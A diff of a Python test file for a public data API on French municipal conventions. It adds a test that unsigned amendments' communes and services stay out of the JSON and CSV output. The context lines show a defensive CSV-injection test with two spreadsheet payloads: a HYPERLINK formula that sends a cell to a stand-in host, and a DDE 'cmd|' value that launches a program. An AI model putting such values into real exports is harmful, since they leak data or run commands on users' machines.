@@ -160,3 +160,42 @@ def test_the_public_csv_neutralises_a_cell_a_spreadsheet_would_run_as_a_formula(
     assert row["title"] == '\'=HYPERLINK("https://exemple.invalid/?x="&A1,"Voir")'
     assert row["territory"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
     assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
+
+
+def test_the_public_data_lists_only_the_parties_and_services_the_signed_acts_made(client):
+    """An avenant not signed yet is a project: the commune it would bring in and the service it
+    would add are not published as those of the convention in force; a commune that left by a
+    signed avenant in effect is no longer listed."""
+    from datetime import date
+
+    from conventions.models import Amendment, Convention
+
+    epci = in_force_conventions(1)
+    convention = Convention.objects.get(territory=epci)
+    joining = OrganisationFactory(name="Commune candidate")
+    draft = Amendment.objects.create(
+        convention=convention, number=1, object="Entrée", effective_from=date(2020, 1, 1)
+    )
+    Party.objects.create(
+        convention=convention, organisation=joining, role=PartyRole.BENEFICIARY, joined_by=draft
+    )
+    extra = ServiceFactory(provider=epci, name="Service en projet")
+    convention.services.create(service=extra, unit_type=extra.unit_type, added_by=draft)
+    leaving = Party.objects.get(convention=convention, role=PartyRole.BENEFICIARY, joined_by=None)
+    signed = Amendment.objects.create(
+        convention=convention,
+        number=2,
+        object="Sortie",
+        effective_from=date(2021, 1, 1),
+        status=Amendment.AmendmentStatus.SIGNED,
+    )
+    Party.objects.filter(pk=leaving.pk).update(left_by=signed)
+
+    [row] = client.get(f"{JSON}?territory={epci.siren}").json()["results"]
+    names = {party["name"] for party in row["parties"]}
+    assert names == {epci.name}
+    assert "Service en projet" not in {service["name"] for service in row["services"]}
+    text = client.get(f"{CSV}?territory={epci.siren}").content.decode()
+    assert "Commune candidate" not in text
+    assert "Service en projet" not in text
+    assert leaving.organisation.name not in text.split("\r\n")[1].split(";")[8]
